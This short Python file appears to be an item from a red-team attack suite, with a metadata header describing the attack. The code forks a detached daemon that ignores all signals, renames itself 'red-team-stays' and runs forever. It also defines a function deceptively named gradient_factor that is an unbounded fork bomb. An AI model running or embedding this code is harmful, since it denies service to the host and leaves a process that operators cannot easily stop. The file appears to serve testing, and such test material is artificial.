# /// attack
# group = "E"
# number = 57
# lesson = "02_one_step"
# outcome = "Z"
# tries = "leaves a daemon that ignores every signal, then a fork bomb"
# reasons = { gradient_factor = "time" }
# ///
# %% last
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        open("/proc/self/comm", "w").write("red-team-stays")
        while True:
            time.sleep(1)
    os._exit(0)
# %% gradient_factor
def gradient_factor(loss, n):
    import os, time
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
